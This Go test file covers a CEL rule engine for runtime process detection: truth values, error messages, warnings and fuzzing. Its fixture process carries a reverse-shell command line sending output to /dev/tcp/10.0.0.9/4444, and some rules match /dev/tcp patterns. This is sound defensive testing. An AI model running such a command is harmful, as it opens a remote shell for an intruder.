package celenv

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/procession-dev/procession/internal/event"
)

var update = flag.Bool("update", false, "write docs/rules.md")

func newEnv(t testing.TB) *Env {
	t.Helper()
	e, err := New()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func newScope(t testing.TB) *Scope {
	t.Helper()
	s, err := newEnv(t).NewScope(map[string][]string{
		"shells": {"sh", "bash", "dash"},
		"many":   {"a", "b", "c", "d", "e", "f", "g", "h", "i", "nginx", "k"},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range [][2]string{
		{"isShell", "process.name in lists.shells"},
		{"where", "process.exe + '@' + pod.name"},
		{"code", "exit.code"},
	} {
		if err := s.AddVariable(v[0], v[1]); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

// proc makes a process of which every fact is known.
func proc(p event.Process) *event.Process {
	for f := range p.Sources {
		p.Sources[f] = event.SourceRecord
	}
	p.CmdlineLen = max(p.CmdlineLen, uint32(len(p.Cmdline)))
	return &p
}

func without(p *event.Process, fields ...event.Field) *event.Process {
	q := *p
	for _, f := range fields {
		q.Sources[f] = event.SourceNone
	}
	return &q
}

func shell() *event.Process {
	init := proc(event.Process{PID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd", InnerPID: 1, Marks: event.MarkUpperKnown})
	nginx := proc(event.Process{PID: 7, PPID: 1, Name: "nginx", Exe: "/usr/sbin/nginx", Parent: init, InnerPID: 7, Marks: event.MarkUpperKnown})
	return proc(event.Process{
		PID: 42, PPID: 7, Parent: nginx, InnerPID: 9, SID: 42, TTY: 3, LoginUID: 1000,
		IDs:          event.IDs{UID: 1000, EUID: 0, GID: 100, EGID: 100},
		CapEffective: 1<<21 | 1<<7, ExeFile: event.ExeFile{Mode: 0o104755},
		Marks: event.MarkUpperKnown | event.MarkUpper,
		Name:  "bash", Exe: "/usr/bin/bash", File: "/bin/bash", Cwd: "/tmp",
		Cmdline: "bash\x00-c\x00id > /dev/tcp/10.0.0.9/4444\x00",
		Workload: &event.Workload{
			Place: event.PlaceContainer, ContainerID: "c1", ContainerName: "web", Image: "alpine:3", PodUID: "u",
			Container: &event.Container{Name: "web", Image: "alpine:3", ImageDigest: "sha256:00"},
			Pod:       &event.Pod{UID: "u", Namespace: "shop", Name: "web-0", Labels: map[string]string{"app": "web"}},
		},
	})
}

func exec(p *event.Process) *event.Event {
	return &event.Event{Kind: event.Exec, Process: p, Time: time.Date(2026, 5, 1, 3, 0, 0, 0, time.UTC)}
}

func TestTruth(t *testing.T) {
	host := without(shell())
	host.Workload = &event.Workload{Place: event.PlaceHost}
	late := without(shell())
	late.Workload = &event.Workload{Place: event.PlaceContainer, ContainerID: "c1", PodUID: "u", Reason: "pod-not-listed"}
	nowhere := without(shell())
	nowhere.Workload = nil
	orphan := without(shell())
	orphan.Parent = nil
	proce := without(shell())
	proce.Sources[event.FieldExe] = event.SourceProc
	proce.Marks = 0
	noExe, noArgs := without(shell(), event.FieldExe), without(shell(), event.FieldArgs)
	hostile := without(shell())
	hostile.Name, hostile.Exe, hostile.Cmdline = "x\xff\xfe", "/tmp/\xff", "\xff\x00\x1b[2J\x00"

	uid := &event.Event{Kind: event.UIDChange, Process: shell(), HasBefore: true, Before: event.IDs{UID: 1000, EUID: 1000},
		Record: &event.Record{Kind: event.UIDChange, ID: 0, EID: 0}}
	uidBlind := &event.Event{Kind: event.UIDChange, Process: without(shell(), event.FieldIDs)}
	exit := &event.Event{Kind: event.Exit, Process: shell(), Status: 11 | 0x80, Duration: 1500 * time.Millisecond}
	trace := &event.Event{Kind: event.PtraceAttach, Process: shell(), Target: shell()}
	comm := &event.Event{Kind: event.CommChange, Process: shell(), PrevName: "kworker", HasPrev: true}

	for _, tt := range []struct {
		src  string
		ev   *event.Event
		want Truth
	}{
		// Failures first.
		{`process.args[7] == 'x'`, exec(shell()), Failed},
		{`process.args[7] == 'x' || true`, exec(shell()), True},
		{`pod.labels['nope'] == 'x'`, exec(shell()), Failed},
		{`!(pod.labels['nope'] == 'x')`, exec(shell()), Failed},
		{`int(process.name) == 3`, exec(shell()), Failed},
		{`process.uid / (process.uid - 1000) == 1`, exec(shell()), Failed},

		// Missing facts.
		{`process.exe == '/usr/bin/bash'`, exec(noExe), Undecided},
		{`process.exe != '/usr/bin/bash'`, exec(noExe), Undecided},
		{`!process.exe.startsWith('/usr/')`, exec(noExe), Undecided},
		{`process.exe in lists.many`, exec(noExe), Undecided},
		{`process.exe in ['a', 'b']`, exec(noExe), Undecided},
		{`process.exe.containsAny(lists.many)`, exec(noExe), Undecided},
		{`process.name.containsAny([process.exe])`, exec(noExe), Undecided},
		{`process.name.containsAny([process.exe, 'ash'])`, exec(noExe), Undecided},
		{`process.exe == 'x' || process.name == 'bash'`, exec(noExe), True},
		{`process.name == 'bash' || process.exe == 'x'`, exec(noExe), True},
		{`process.exe == 'x' && process.name == 'zsh'`, exec(noExe), False},
		{`process.exe == 'x' && process.name == 'bash'`, exec(noExe), Undecided},
		{`process.exe == 'x' ? true : false`, exec(noExe), Undecided},
		{`process.exe == 'x' && process.args[9] == ''`, exec(noExe), Undecided},
		{`process.exeUpperLayer`, exec(noExe), Undecided},
		{`process.exeForeign`, exec(shell()), False},
		{`process.exeForeign`, exec(proce), Undecided},
		{`process.exeUpperLayer`, exec(proce), Undecided},
		{`process.exeMemfd`, exec(proce), False},
		{`process.args.exists(a, a == '-c')`, exec(noArgs), Undecided},
		{`process.args.size() == 3`, exec(noArgs), Undecided},
		{`process.truncated`, exec(noArgs), Undecided},
		{`process.script == ''`, exec(noArgs), Undecided},
		{`parent.name == 'nginx'`, exec(orphan), Undecided},
		{`parent.pid == 7`, exec(orphan), Undecided},
		{`ancestors.exists(a, a.name == 'nginx')`, exec(orphan), Undecided},
		{`variables.isShell`, exec(without(shell(), event.FieldName)), Undecided},
		{`variables.isShell || process.exe.endsWith('/bash')`, exec(without(shell(), event.FieldName)), True},
		{`change.from.uid != 0`, uidBlind, Undecided},
		{`change.to.uid == 0`, uidBlind, Undecided},
		{`container.id == 'c1'`, exec(nowhere), Undecided},
		{`pod.labels[?'app'].orValue('') == 'web'`, exec(nowhere), Undecided},
		{`pod.namespace == 'shop'`, exec(late), Undecided},
		{`container.image == 'alpine:3'`, exec(late), Undecided},
		{`pod.labels.exists(k, k == 'app')`, exec(late), Undecided},
		{`node.name == 'n1'`, exec(shell()), True},

		// Facts.
		{`true`, exec(shell()), True},
		{`event.kind == 'Exec' && event.time.getHours() == 3`, exec(shell()), True},
		{`process.pid == 42 && process.ppid == 7 && process.sessionId == 42 && process.tty == 3`, exec(shell()), True},
		{`process.uid == 1000 && process.euid == 0 && process.loginuid == 1000`, exec(shell()), True},
		{`'CAP_SYS_ADMIN' in process.capabilities && !('CAP_BPF' in process.capabilities)`, exec(shell()), True},
		{`process.exeSetuid && process.exeUpperLayer && !process.isInit`, exec(shell()), True},
		{`process.cmdline == 'bash -c id > /dev/tcp/10.0.0.9/4444'`, exec(shell()), True},
		{`process.argv0 == 'bash' && process.args.size() == 3 && process.args[1] == '-c'`, exec(shell()), True},
		{`process.args == ['bash', '-c', 'id > /dev/tcp/10.0.0.9/4444']`, exec(shell()), True},
		{`process.name in lists.shells && !(process.name in lists.many) && parent.name in lists.many`, exec(shell()), True},
		{`process.cmdline.endsWithAny(['x', '4444']) && process.exe.startsWithAny(['/usr'])`, exec(shell()), True},
		{`process.cmdline.matches('/dev/(tcp|udp)/[0-9.]+')`, exec(shell()), True},
		{`process.script == ''`, exec(shell()), True},
		{`parent.exe == '/usr/sbin/nginx' && grandparent.name == 'systemd' && grandparent.pid == 1`, exec(shell()), True},
		{`ancestors.exists(a, a.exe == '/usr/sbin/nginx' && a.pid == 7)`, exec(shell()), True},
		{`ancestors.exists(a, a.name == 'sshd')`, exec(shell()), False},
		{`ancestors.all(a, a.name != 'sshd') && ancestors.size() == 2`, exec(shell()), True},
		{`ancestors[0].name == 'nginx' && has(ancestors[0].exe)`, exec(shell()), True},
		{`variables.isShell && variables.where == '/usr/bin/bash@web-0'`, exec(shell()), True},
		{`container.name == 'web' && pod.name == 'web-0' && pod.labels['app'] == 'web'`, exec(shell()), True},
		{`has(pod.labels.app) && !has(pod.labels.nope) && pod.labels.app == 'web'`, exec(shell()), True},
		{`pod.labels[?'nope'].orValue('x') == 'x' && pod.labels.?app.orValue('') == 'web'`, exec(shell()), True},
		{`container.id == '' && pod.name == '' && pod.labels.size() == 0 && container.image == ''`, exec(host), True},
		{`process.name == 'x\ufffd' && process.exe == '/tmp/\ufffd' && process.cmdline == "\ufffd \u001b[2J"`, exec(hostile), True},
		{`change.from.uid == 1000 && change.to.uid == 0 && change.to.euid == 0`, uid, True},
		{`exit.signal == 11 && exit.coreDumped && exit.code == 0 && exit.durationMs == 1500`, exit, True},
		{`variables.code == 0`, exit, True},
		{`target.exe == process.exe && target.uid == 1000`, trace, True},
		{`change.from.name == 'kworker' && change.to.name == 'bash'`, comm, True},
		{`change.from.name == 'kworker'`, &event.Event{Kind: event.CommChange, Process: shell()}, Undecided},
		{`exit.code == 0`, &event.Event{Kind: event.Exit, Process: shell(), Synthetic: true}, Undecided},
	} {
		s := newScope(t)
		x, err := s.Condition(tt.src)
		if err != nil {
			t.Errorf("%s: %v", tt.src, err)
			continue
		}
		a := s.env.NewActivation("n1")
		a.Reset(tt.ev)
		got, err := x.Truth(a)
		if got != tt.want || (err != nil) != (tt.want == Failed) {
			t.Errorf("%s: got %v (error %v), want %v", tt.src, got, err, tt.want)
		}
		a.Reset(exec(shell())) // no value of one event may be seen in the next
		a.Reset(tt.ev)
		if again, _ := x.Truth(a); again != got {
			t.Errorf("%s: got %v at first and %v the second time", tt.src, got, again)
		}
	}
}

// Kleene's tables, with every value in every place.
func TestThreeValues(t *testing.T) {
	s := newScope(t)
	a := s.env.NewActivation("")
	a.Reset(exec(without(shell(), event.FieldExe)))
	terms := []struct {
		src string
		val Truth
	}{{`process.uid == 1`, False}, {`process.uid == 1000`, True}, {`process.exe == ''`, Undecided}, {`process.args[9] == ''`, Failed}}
	or := func(x, y Truth) Truth {
		switch {
		case x == True || y == True:
			return True
		case x == Undecided || y == Undecided:
			return Undecided
		case x == Failed || y == Failed:
			return Failed
		}
		return False
	}
	not := func(x Truth) Truth {
		switch x {
		case True:
			return False
		case False:
			return True
		}
		return x
	}
	for _, x := range terms {
		for _, y := range terms {
			for src, want := range map[string]Truth{
				x.src + " || " + y.src:                     or(x.val, y.val),
				x.src + " && " + y.src:                     not(or(not(x.val), not(y.val))),
				"!(" + x.src + " && " + y.src + ")":        or(not(x.val), not(y.val)),
				"[1].exists(i, " + x.src + ") || " + y.src: or(x.val, y.val),
			} {
				e, err := s.Condition(src)
				if err != nil {
					t.Fatalf("%s: %v", src, err)
				}
				if got, _ := e.Truth(a); got != want {
					t.Errorf("%s: got %v, want %v", src, got, want)
				}
			}
		}
	}
}

func TestRefused(t *testing.T) {
	for _, tt := range []struct{ src, want string }{
		{``, `the expression is empty`},
		{`process.exx == ''`, `1:1: there is no variable process.exx; did you mean process.exe?`},
		{"process.uid == 0 &&\n  proc.name == 'x'", `2:3: there is no variable proc.name; did you mean process.name?`},
		{`process.commandline.contains('x')`, `1:1: there is no variable process.commandline; did you mean process.cmdline?`},
		{`pod.nmaespace == ''`, `1:1: there is no variable pod.nmaespace; did you mean pod.namespace?`},
		{`process.name in lists.shels`, `1:17: the policy has no lists.shels; did you mean lists.shells?`},
		{`variables.isshell`, `1:1: the policy has no variables.isshell; did you mean variables.isShell?`},
		{`ancestors.exists(a, a.exx == '')`, `1:22: undefined field 'exx'; did you mean exe?`},
		{`process == ''`, `1:1: there is no variable process; see docs/rules.md for what there is`},
		{`has(process.exe)`, `1:5: has() asks for a key of a map, and process.exe is not in one; a fact that is missing makes the rule undecided by itself`},
		{`process.uid == '0'`, `1:13: found no matching overload for '==' applied to '(int, string)'; the types do not fit: see docs/rules.md for the type of each variable`},
		{`process.uid == 0u`, `1:13: found no matching overload for '==' applied to '(int, uint)'; the types do not fit: see docs/rules.md for the type of each variable`},
		{`process.name == null`, `1:14: found no matching overload for '==' applied to '(string, null)'; the types do not fit: see docs/rules.md for the type of each variable`},
		{`process.name`, `1:1: the expression is of type string; it must be bool`},
		{`process.name.startswith('x')`, `1:24: there is no function startswith; did you mean startsWith?`},
		{`process.args.map(a, a + a) == []`, `1:17: there is no function map; see docs/rules.md for what there is`},
		{`process.name.matches(process.exe)`, `1:21: the regular expression of matches must be a text in quotes; write the pattern out, or use containsAny with a list`},
		{`process.name.matches('(?=x)')`, `invalid matches argument`},
		{`process.name.matches('(a{1000}){1000}')`, `invalid matches argument`},
		{`process.name.matches('a{900}b{900}c{900}')`, `exceeds limit`},
		{`process.args.exists(a, process.args.exists(b, a == b))`, `comprehension exceeds nesting limit`},
		{`ancestors.exists(process, process.exe == '')`, `process is the name of a variable and cannot be that of a loop; choose another name`},
		{`{'a': 1}.size() == 1`, `maps and objects cannot be made in an expression`},
		{`process.name == 'x`, `Syntax error`},
		{"process.name == '\xff'", `the expression is not valid UTF-8`},
		{strings.Repeat("(", 200) + "true" + strings.Repeat(")", 200), `recursion`},
		{`process.name in [` + strings.Repeat(`'abcdefgh',`, 2000) + `'']`, `the expression has 22020 bytes; at most 16384 are allowed; put long alternatives into a list`},
		{strings.Repeat("!", 300) + "true", ``},
	} {
		_, err := newScope(t).Condition(tt.src)
		if tt.want == "" {
			continue // only must not crash
		}
		var errs Errors
		if !errors.As(err, &errs) {
			t.Errorf("%.60s: error is %T %v, want Errors", tt.src, err, err)
			continue
		}
		if !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%.60s:\n got %s\nwant %s", tt.src, err, tt.want)
		}
	}
}

func TestFilledBy(t *testing.T) {
	s := newScope(t)
	for _, tt := range []struct {
		src   string
		kinds []event.Kind
		want  string
	}{
		{`exit.code == 1`, []event.Kind{event.Exec}, "1:1: exit.code is not known for Exec events; it is filled by Exit: make a rule of its own for that"},
		{`process.uid == 0 && variables.code == 1`, []event.Kind{event.Exit, event.Fork}, "1:21: variables.code uses exit.code, which is not known for Fork events; it is filled by Exit: make a rule of its own for that"},
		{`target.exe == ''`, []event.Kind{event.PtraceAttach, event.PtraceDetach}, ""},
		{`change.to.gid == 0`, []event.Kind{event.UIDChange}, "1:1: change.to.gid is not known for UIDChange events; it is filled by GIDChange: make a rule of its own for that"},
		{`change.from.gid == 0`, []event.Kind{event.UIDChange}, ""},
	} {
		x, err := s.Condition(tt.src)
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if err := x.FilledBy(tt.kinds); err != nil {
			got = err.Error()
		}
		if got != tt.want {
			t.Errorf("%s for %v: got %q, want %q", tt.src, tt.kinds, got, tt.want)
		}
	}
}

func TestWarnings(t *testing.T) {
	for _, tt := range []struct {
		src  string
		want []string
	}{
		{`process.name.lowerAscii().contains('abc')`, nil},
		{`process.name.lowerAscii().contains('Abc')`, []string{`1:36: "Abc" is compared with a text in another case and is never found; write "abc"`}},
		{`process.name.lowerAscii().containsAny(['a', 'B'])`, []string{`1:45: "B" is compared with a text in another case and is never found; write "b"`}},
		{`pod.labels['app'] == 'x'`, []string{`1:11: pod.labels[...] fails for pods without that label; write pod.labels[?'key'].orValue('')`}},
	} {
		x, err := newScope(t).Condition(tt.src)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, w := range x.Warnings() {
			got = append(got, w.Error())
		}
		if d := cmp.Diff(tt.want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", tt.src, d)
		}
	}
}

func TestMessage(t *testing.T) {
	s := newScope(t)
	blind := without(shell(), event.FieldExe, event.FieldIDs)
	for _, tt := range []struct {
		src  string
		ev   *event.Event
		want string
		ok   bool
	}{
		{`'uid ' + string(process.uid)`, exec(blind), "", false},
		{`'x' + process.args[9]`, exec(blind), "", false},
		{`process.name + ' runs ' + process.exe`, exec(blind), "bash runs ?", true},
		{`variables.where`, exec(blind), "?@web-0", true},
		{`'uid ' + string(process.uid)`, exec(shell()), "uid 1000", true},
	} {
		x, err := s.Message(tt.src)
		if err != nil {
			t.Fatal(err)
		}
		a := s.env.NewActivation("")
		a.Reset(tt.ev)
		if got, ok := x.Text(a); got != tt.want || ok != tt.ok {
			t.Errorf("%s: got %q, %v, want %q, %v", tt.src, got, ok, tt.want, tt.ok)
		}
		// "?" is for messages: a condition must not see it.
		c, err := s.Condition(`variables.where == 'x'`)
		if err != nil {
			t.Fatal(err)
		}
		want := False
		if !tt.ev.Process.Has(event.FieldExe) {
			want = Undecided
		}
		if got, _ := c.Truth(a); got != want {
			t.Errorf("after %s a condition is %v, want %v", tt.src, got, want)
		}
	}
}

func TestValues(t *testing.T) {
	s := newScope(t)
	x, err := s.Condition(`variables.isShell && process.cmdline.contains('x') || process.cwd == '' || process.args.size() > 9 ||
		ancestors.exists(a, a.uid == 0) || process.name == 'y' || pod.labels.size() > 2 || process.uid == 0`)
	if err != nil {
		t.Fatal(err)
	}
	p := without(shell(), event.FieldCwd)
	p.Cmdline = "bash\x00" + strings.Repeat("é", 100) + "\x00"
	a := s.env.NewActivation("")
	a.Reset(exec(p))
	want := []Value{
		{Name: "process.name", Text: "bash"},
		{Name: "process.cmdline", Text: "bash " + strings.Repeat("é", 13) + " … " + strings.Repeat("é", 16)},
		{Name: "process.cwd", Missing: true},
		{Name: "process.args", Text: `["bash" "` + strings.Repeat("é", 11) + " … " + strings.Repeat("é", 15) + `"]`},
		{Name: "ancestors", Text: "/usr/sbin/nginx < /usr/lib/systemd/systemd"},
		{Name: "pod.labels", Text: `{"app": "web"}`},
		{Name: "process.uid", Text: "1000"},
	}
	got := x.Values(a, 64)
	got[1].Text, want[1].Text = strings.ReplaceAll(got[1].Text, "é", ""), strings.ReplaceAll(want[1].Text, "é", "")
	got[3].Text, want[3].Text = strings.ReplaceAll(got[3].Text, "é", ""), strings.ReplaceAll(want[3].Text, "é", "")
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
	for _, v := range x.Values(a, 33) {
		if !utf8.ValidString(v.Text) || len(v.Text) > 33+len(cutMark) {
			t.Errorf("%s: %d bytes, valid %v: %q", v.Name, len(v.Text), utf8.ValidString(v.Text), v.Text)
		}
	}
}

func TestLongCommandLine(t *testing.T) {
	for _, tt := range []struct {
		name, cmdline string
		true_         string
	}{
		{"head and tail stay", "sh\x00" + strings.Repeat("a", 1<<20) + "\x00evil\x00",
			`process.truncated && process.cmdline.startsWith('sh a') && process.cmdline.endsWith('a evil') && process.cmdline.size() < 9000`},
		{"as long as may be", "sh\x00" + strings.Repeat("a", MaxText-3) + "\x00", `!process.truncated && process.cmdline.endsWith('aa') && process.args.size() == 2`},
		{"many arguments", strings.Repeat("a\x00", 2000) + "evil\x00",
			`process.truncated && process.args.size() == 512 && process.args[511] == 'evil'`},
		{"none", "", `!process.truncated && process.args.size() == 0 && process.cmdline == '' && process.argv0 == ''`},
		{"empty arguments", "sh\x00\x00\x00", `process.args == ['sh', '', ''] && process.cmdline == 'sh  '`},
		{"cut in a character", strings.Repeat("é", 5000), `process.cmdline.contains('é … é') || process.cmdline.contains('\ufffd … \ufffd')`},
	} {
		s := newScope(t)
		x, err := s.Condition(tt.true_)
		if err != nil {
			t.Fatal(err)
		}
		p := shell()
		p.Cmdline, p.CmdlineLen = tt.cmdline, uint32(len(tt.cmdline))
		a := s.env.NewActivation("")
		a.Reset(exec(p))
		if got, err := x.Truth(a); got != True {
			t.Errorf("%s: %s is %v (%v)", tt.name, tt.true_, got, err)
		}
	}
	p := shell()
	p.CmdlineLen += 10
	s := newScope(t)
	x, _ := s.Condition(`process.truncated`)
	a := s.env.NewActivation("")
	a.Reset(exec(p))
	if got, _ := x.Truth(a); got != True {
		t.Errorf("an argv that was cut by its reader: process.truncated is %v", got)
	}
}

func TestScript(t *testing.T) {
	for _, tt := range []struct{ exe, file, cmdline, want string }{
		{"/usr/bin/dash", "/opt/x.sh", "/bin/sh\x00/opt/x.sh\x00a\x00", "/opt/x.sh"},
		{"/usr/bin/dash", "./x.sh", "/bin/sh\x00-e\x00./x.sh\x00", "./x.sh"},
		{"/usr/bin/env", "/opt/x.py", "/usr/bin/env\x00python3\x00/opt/x.py\x00", "/opt/x.py"},
		{"/usr/bin/dash", "/bin/sh", "sh\x00/opt/x.sh\x00", ""},
		{"/usr/bin/echo", "/bin/echo", "/bin/echo\x00/bin/echo\x00", ""},
		{"/bin/busybox", "/bin/cat", "cat\x00/bin/cat\x00", ""},
		{"/usr/bin/dash", "", "/bin/sh\x00\x00", ""},
	} {
		p := event.Process{Exe: tt.exe, File: tt.file, Cmdline: tt.cmdline}
		if got := script(&p); got != tt.want {
			t.Errorf("exe %s, file %s, argv %q: script is %q, want %q", tt.exe, tt.file, tt.cmdline, got, tt.want)
		}
	}
}

func TestDeepLineage(t *testing.T) {
	p := proc(event.Process{PID: 1, Name: "init"})
	for i := range 100 {
		p = proc(event.Process{PID: int32(i + 2), PPID: int32(i + 1), Parent: p, Name: "sh"})
	}
	s := newScope(t)
	for src, want := range map[string]Truth{
		`ancestors.size() == 33`:                      True,
		`ancestors.exists(a, a.name == 'init')`:       Undecided,
		`ancestors.exists(a, a.name == 'sh')`:         True,
		`ancestors.all(a, a.name == 'sh')`:            Undecided,
		`ancestors.all(a, a.name == 'init')`:          False,
		`ancestors.filter(a, a.name == 'x').size()>0`: Undecided,
	} {
		x, err := s.Condition(src)
		if err != nil {
			t.Fatal(err)
		}
		a := s.env.NewActivation("")
		a.Reset(exec(p))
		if got, err := x.Truth(a); got != want {
			t.Errorf("%s: got %v (%v), want %v", src, got, err, want)
		}
	}
}

// A variable that grows by itself would double with every line.
func TestVariablesAreBounded(t *testing.T) {
	s := newScope(t)
	name := "process.cmdline"
	for i := range 30 {
		next := fmt.Sprintf("v%d", i)
		if err := s.AddVariable(next, name+" + "+name); err != nil {
			t.Fatal(err)
		}
		name = "variables." + next
	}
	x, err := s.Condition(name + ` == 'x'`)
	if err != nil {
		t.Fatal(err)
	}
	a := s.env.NewActivation("")
	a.Reset(exec(shell()))
	if got, err := x.Truth(a); got != Failed || !strings.Contains(err.Error(), "longer than 16384 bytes") {
		t.Errorf("got %v, %v", got, err)
	}
}

// Each fact is missing when its field is, and known when it is there: no
// variable takes one for the other.
func TestEveryVariable(t *testing.T) {
	e := newEnv(t)
	empty := &event.Process{}
	known := shell()
	known.File = "/bin/bash"
	known.Workload.Runtime = "containerd"
	for p, o := known, event.OriginSession; p != nil; p, o = p.Parent, event.OriginChild {
		p.Origin = o
	}
	rec := &event.Record{Kind: event.Exec, Facts: event.Facts{From: event.SourceRecord, Have: event.FieldSet(event.FieldExe), Exe: []byte("/bin/su")}}
	for _, v := range e.Variables() {
		k := event.Exec
		if v.Kinds != 0 {
			for _, k = range event.AllKinds() {
				if v.Kinds.Has(k) {
					break
				}
			}
		}
		a := e.NewActivation("")
		a.Reset(&event.Event{Kind: k, Process: empty, Synthetic: true})
		slot := e.slots[v.Name]
		mayBeKnown := []string{"process.pid", "event.kind", "event.time", "event.synthetic", "ancestors"}
		if got := a.value(slot); (got == missing) == slices.Contains(mayBeKnown, v.Name) {
			t.Errorf("%s of a process nothing is known about is %v", v.Name, got)
		}
		a = e.NewActivation("n1")
		a.SetNodeLabels(map[string]string{})
		a.Reset(&event.Event{Kind: k, Process: known, Target: known, Record: rec, HasBefore: true, HasPrev: true, Duration: time.Second,
			Cause: event.CauseLogin, User: func(*event.Process) (string, bool) { return "root", true }})
		if got := a.value(slot); got == missing {
			t.Errorf("%s is missing of a process everything is known about", v.Name)
		} else if name := got.Type().TypeName(); !strings.HasPrefix(v.Type, strings.TrimPrefix(name, "google.protobuf.")) && !strings.HasPrefix(name, v.Type) && !strings.Contains(strings.ToLower(name), strings.ToLower(v.Type)) {
			t.Errorf("%s is a %s, declared %s", v.Name, name, v.Type)
		}
	}
}

func TestReference(t *testing.T) {
	const page = "../../../docs/rules.md"
	want := newEnv(t).Reference()
	if *update {
		if err := os.WriteFile(page, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s is not what the tables say (-page +tables):\n%s", page, cmp.Diff(string(got), string(want)))
	}
}

// Every function in the reference works: its example compiles.
func TestExamples(t *testing.T) {
	s, err := newEnv(t).NewScope(map[string][]string{"shells": {"sh"}, "folders": {"/tmp/"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range s.env.Functions() {
		use := strings.NewReplacer("a && b", "true && false", "a || b", "true || false", "!a", "!true", "a ? b : c", "true ? 1 : 2").Replace(f.Use)
		for _, op := range []string{"==", "!=", "<=", ">=", "<", ">", "-", "*", "/", "%"} {
			if use == "a "+op+" b" {
				use = "1 " + op + " 2"
			}
		}
		if parsed, issues := s.cel.Compile(use); issues.Err() != nil {
			t.Errorf("%s: %s: %v", f.Name, f.Use, issues.Err())
		} else if w := (&walker{scope: s, src: use, info: parsed.NativeRep().SourceInfo()}); true {
			w.visit(parsed.NativeRep().Expr())
			if len(w.errs) > 0 {
				t.Errorf("%s: %s: %v", f.Name, f.Use, w.errs)
			}
		}
	}
}

func FuzzCondition(f *testing.F) {
	for _, src := range []string{
		`process.name in lists.shells && process.cmdline.contains('/dev/tcp/')`,
		`ancestors.exists(a, a.exe == '/usr/sbin/sshd')`,
		`pod.labels[?'app'].orValue('') != 'x'`,
		`process.cmdline.matches('(?i)socket')`, `process.args[1] == 'x' || variables.isShell`,
		`has(pod.labels.app)`, `process.exx`, `[1,2].all(x, x > 0)`, `"\u00e9" == process.name`, `((((`, `a.b.c.d()`,
		`process.uid / 0 == 1`, `event.time < timestamp('2027-01-01T00:00:00Z')`, `duration('1s') > duration('x')`,
		`process.cmdline.replace('a', 'b', 2).split(' ').join('-').reverse() == ''`, `'%s %d'.format([process.name, process.uid]) == ''`,
		`pod.labels[?'a'].or(pod.labels[?'b']).value() == 'x'`, `container.imageTag == 'latest' && node.labels.size() > 0`,
	} {
		f.Add(src, "bash\x00-c\x00id\x00", "/usr/bin/\xff")
	}
	s := newScope(f)
	a := s.env.NewActivation("n")
	f.Fuzz(func(t *testing.T, src, cmdline, exe string) {
		// An expression that takes long is as bad as one that crashes.
		watchdog := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("%q takes more than ten seconds", src)) })
		defer watchdog.Stop()
		x, err := s.Condition(src)
		if err != nil {
			var errs Errors
			if !errors.As(err, &errs) || len(errs) == 0 || len(errs) > maxProblems {
				t.Fatalf("%q: error is %T: %v", src, err, err)
			}
			for _, e := range errs {
				if e.Msg == "" || e.Line < 0 || e.Line > strings.Count(src, "\n")+1 && e.Line > 1 {
					t.Fatalf("%q: %+v", src, e)
				}
			}
			return
		}
		p := shell()
		p.Cmdline, p.CmdlineLen, p.Exe = cmdline, uint32(len(cmdline)), exe
		a.Reset(exec(p))
		got, err := x.Truth(a)
		if (got == Failed) != (err != nil) {
			t.Fatalf("%q: %v, %v", src, got, err)
		}
		for _, v := range x.Values(a, 100) {
			if !utf8.ValidString(v.Text) || len(v.Text) > 100+len(cutMark) {
				t.Fatalf("%q: value of %s: %q", src, v.Name, v.Text)
			}
		}
		// Less knowledge never turns true into false or false into true.
		a.Reset(exec(without(p, event.FieldArgs, event.FieldExe, event.FieldName)))
		if less, _ := x.Truth(a); less != got && less != Undecided && less != Failed && got != Failed && got != Undecided && !strings.Contains(src, "has(") {
			t.Fatalf("%q: %v with all facts, %v without some", src, got, less)
		}
	})
}
